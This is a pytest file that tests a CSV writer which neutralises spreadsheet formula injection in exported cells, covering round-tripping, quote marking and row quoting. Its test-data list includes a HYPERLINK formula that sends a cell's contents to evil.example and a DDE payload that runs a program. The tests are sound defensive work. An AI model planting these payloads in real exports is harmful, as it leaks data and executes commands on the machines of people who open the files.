"""CSV cells a spreadsheet would run are written as text, and read back exactly (domain/transfer/csv_cells.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import doctordesk
from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS, CsvWriter, neutralise, restore

# The values of the report, and what else a spreadsheet evaluates or a reader could confuse with a mark.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "'-2",
    "'",
    "''",
    "'quoted'",
    "O'Brien",
    "-",
    "=",
    "",
    "plain",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_neutralised_cell_reads_back_as_the_value(value):
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", [v for v in FORMULAS if v.lstrip("'")[:1] in FORMULA_STARTS and v.lstrip("'")])
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_the_text_mark(value):
    written = neutralise(value)
    assert written.startswith("'") and written[1:] == value


@pytest.mark.parametrize("value", ["O'Brien", "'quoted'", "'", "plain", "Dr. Berger", "2026-11-25", "L-1"])
def test_a_cell_without_a_formula_character_after_its_quotes_is_written_as_it_is(value):
    assert neutralise(value) == value and restore(value) == value


@given(st.text())
def test_every_text_round_trips_and_no_written_cell_starts_with_a_formula_character(value):
    written = neutralise(value)
    assert restore(written) == value
    assert not written or written[0] not in FORMULA_STARTS


def test_numbers_stay_numbers_and_text_is_neutralised_in_the_written_file():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.row(["fee", "amount", "name"])
    writer.row(["-12.50", Decimal("-12.50"), "=1+1"])
    writer.row([None, -3, "-3"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["fee", "amount", "name"],
        ["'-12.50", "-12.50", "'=1+1"],
        ["", "-3", "'-3"],
    ]


def test_a_cell_with_a_carriage_return_is_quoted_so_it_cannot_start_a_row():
    out = io.StringIO()
    CsvWriter(out).row(["a\r=1+1", "b\n@x"])
    assert out.getvalue() == '"a\r=1+1","b\n@x"\r\n'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a\r=1+1", "b\n@x"]]


def test_a_boolean_is_not_written_as_a_number():
    with pytest.raises(TypeError):
        CsvWriter(io.StringIO()).row([True])


def test_every_csv_the_service_writes_goes_through_the_one_writer():
    source = Path(doctordesk.__file__).parent
    writers = [
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["domain/transfer/csv_cells.py"]
